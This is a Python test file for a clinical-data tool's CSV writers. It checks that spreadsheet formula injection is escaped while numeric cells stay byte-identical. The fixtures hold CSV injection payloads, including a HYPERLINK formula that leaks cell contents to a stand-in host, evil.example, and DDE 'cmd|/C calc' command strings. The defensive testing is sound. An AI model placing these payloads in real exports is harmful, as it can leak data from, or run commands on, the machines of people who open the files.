"""No CSV hipdata writes carries a live spreadsheet formula; numbers are untouched (issue 8.5)."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from hipdata.cli import app
from hipdata.io.writers import csv_ready, neutralise_text, write_csv, write_tables
from hipdata.synth import generate

runner = CliRunner()
#: What a spreadsheet would run as a formula (OWASP): these first characters, also after blanks.
LIVE = re.compile(r"^(?:[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])")
PLAIN_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$")

HOSTILE = {
    "clinic": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "clinician": "@SUM(1+1)*cmd|' /C calc'!A0",
    "patient_plus": "+cmd|' /C calc'!A0",
    "patient_minus": "-2+3",
    "patient_at": "@SUM(A1:A9)",
    "exercise": '=HYPERLINK("http://evil.example","bridge")',
}


def live_cells(path) -> list[tuple[int, int, str]]:
    """(row, column, text) of every cell a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    return [
        (r, c, cell)
        for r, row in enumerate(rows)
        for c, cell in enumerate(row)
        if LIVE.match(cell) and not PLAIN_NUMBER.fullmatch(cell)
    ]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\tP7", "'\tP7"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),  # a spreadsheet that trims blanks would see =1+1
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("C1;=1+1", "C1;'=1+1"),  # split at ';' by a semicolon-locale spreadsheet
        ("-", "'-"),  # a lone dash is text: escaped like any other
        ("-3", "-3"),  # a plain number is no formula: a spreadsheet shows -3 either way
        ("+2.5", "+2.5"),
        ("-1e-3", "-1e-3"),
        ("P-7", "P-7"),  # a dash inside an id is harmless
        ("", ""),
    ],
)
def test_text_cells_are_escaped_by_owasp_rule(text, written):
    assert neutralise_text(pd.Series([text], dtype=object)).tolist() == [written]


def test_numbers_are_never_changed(tmp_path):
    frame = pd.DataFrame(
        {
            "delta": [-3.0, 2.0, np.nan],  # whole floats: written as integers, as before
            "change": [-0.5, 1.25, -1e-7],
            "n": pd.array([-3, 0, None], dtype="Int64"),
            "k": np.array([-1, 2, 3]),
            "flag": pd.array([True, False, None], dtype="boolean"),
            "day": pd.to_datetime(["2026-01-05", None, "2026-03-01"]),
            "id": ["-3", "=1+1", None],
        }
    )
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == (
        "delta,change,n,k,flag,day,id\n"
        "-3,-0.5,-3,-1,true,2026-01-05,-3\n"
        "2,1.25,0,2,false,,'=1+1\n"
        ",-1e-07,,3,,2026-03-01,\n"
    )
    # the numeric columns' bytes are those pandas wrote before formula escaping existed
    numeric = frame.drop(columns=["id", "flag"])
    before = numeric.assign(delta=numeric["delta"].round().astype("Int64")).to_csv(
        index=False, date_format="%Y-%m-%d", na_rep="", lineterminator="\n"
    )
    after = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)[list(numeric.columns)]
    assert after.to_csv(index=False, lineterminator="\n") == before


def test_headers_categoricals_and_mixed_columns_are_escaped():
    frame = pd.DataFrame(
        {
            "=cmd": ["ok"],
            "cat": pd.Categorical(["@x"]),
            "mixed": pd.Series([np.int64(-4)], dtype=object),
        }
    )
    ready = csv_ready(frame)
    assert list(ready.columns) == ["'=cmd", "cat", "mixed"]
    assert ready["cat"].tolist() == ["'@x"] and ready["mixed"].tolist() == [-4]


def test_parquet_keeps_values_as_they_are(tmp_path):
    frame = pd.DataFrame({"unit": ["=1+1"], "value": [-3.0]})
    path = write_tables({"t": frame}, tmp_path, format="parquet")["t"]
    pd.testing.assert_frame_equal(pd.read_parquet(path), frame)


def hostile_tables(*, exercise: bool = True) -> tuple[dict[str, pd.DataFrame], dict[str, str]]:
    """A small synthetic cohort whose ids (and one exercise name) are formulas, and the id map."""
    tables = {name: table.copy() for name, table in generate(24, seed=11).tables.items()}
    patients = tables["patients"]
    renamed = {
        patients["clinic_id"].iloc[0]: HOSTILE["clinic"],
        patients["clinician_id"].iloc[0]: HOSTILE["clinician"],
        patients["patient_id"].iloc[0]: HOSTILE["patient_plus"],
        patients["patient_id"].iloc[1]: HOSTILE["patient_minus"],
        patients["patient_id"].iloc[2]: HOSTILE["patient_at"],
    }
    for table in tables.values():
        for column in ("patient_id", "clinic_id", "clinician_id"):
            if column in table.columns:
                table[column] = table[column].replace(renamed)
    if exercise:
        exercises = tables["exercises"]
        exercises.loc[exercises.index[5], "exercise"] = HOSTILE["exercise"]
    return tables, renamed


def write_raw(tables, folder):
    """Written as a clinic export carries the attack: plain pandas, no escaping."""
    folder.mkdir()
    for name, table in tables.items():
        table.to_csv(folder / f"{name}.csv", index=False, date_format="%Y-%m-%d")
    return folder


def test_hostile_ids_reach_no_output_csv_as_live_formulas(tmp_path):
    data = write_raw(hostile_tables()[0], tmp_path / "data")
    out = tmp_path / "metrics"
    result = runner.invoke(app, ["metrics", str(data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    validated = runner.invoke(app, ["validate", str(data), "--out", str(tmp_path / "checked")])
    assert validated.exit_code == 0, validated.output
    written = sorted(out.glob("*.csv")) + sorted((tmp_path / "checked").glob("*.csv"))
    assert {p.name for p in written} >= {"patient_summary.csv", "sets.csv", "quarantine.csv"}
    text = "\n".join(p.read_text(encoding="utf-8") for p in written)
    # the hostile values did reach the outputs, escaped
    assert "'" + HOSTILE["clinic"].replace('"', '""') in text
    assert "'" + HOSTILE["patient_minus"] in text and "'" + HOSTILE["clinician"] in text
    assert "'" + HOSTILE["exercise"].replace('"', '""') in text  # echoed by the quarantine
    for path in written:
        assert live_cells(path) == [], path.name


def test_escaping_changes_nothing_but_the_escaped_ids(tmp_path):
    """The same cohort with benign and with formula ids: once the ids are mapped back (and the
    apostrophe removed), every output file holds exactly the same cells, numbers byte for byte."""
    tables, renamed = hostile_tables(exercise=False)
    benign = write_raw(generate(24, seed=11).tables, tmp_path / "benign")
    hostile = write_raw(tables, tmp_path / "hostile")
    for folder in (benign, hostile):
        result = runner.invoke(app, ["metrics", str(folder), "--out", str(folder / "out")])
        assert result.exit_code == 0, result.output
    back = {"'" + new: old for old, new in renamed.items()}
    files = sorted(p.name for p in (benign / "out").glob("*.csv"))
    assert files == sorted(p.name for p in (hostile / "out").glob("*.csv"))
    changed = 0
    for name in files:
        before = list(csv.reader(open(benign / "out" / name, encoding="utf-8", newline="")))
        after = list(csv.reader(open(hostile / "out" / name, encoding="utf-8", newline="")))
        changed += sum(cell in back for row in after for cell in row)
        mapped = [[back.get(cell, cell) for cell in row] for row in after]
        assert before[0] == mapped[0], name
        assert sorted(before[1:]) == sorted(mapped[1:]), name
    assert changed > 0


def test_audit_indicators_csv_has_no_live_formulas(tmp_path):
    data = write_raw(hostile_tables()[0], tmp_path / "data")
    out = tmp_path / "audit"
    result = runner.invoke(
        app,
        ["report", "audit", "--data", str(data), "--out", str(out), "--generated", "2026-11-27"],
    )
    assert result.exit_code == 0, result.output
    # issue 10: the file name carries the quarter and clinic (audit_indicators_2026Q3_all.csv)
    (path,) = out.glob("audit_indicators_*_all.csv")
    units = set(pd.read_csv(path, dtype=str, keep_default_na=False)["unit"])
    assert "'" + HOSTILE["clinic"] in units and "'" + HOSTILE["clinician"] in units
    assert live_cells(path) == []
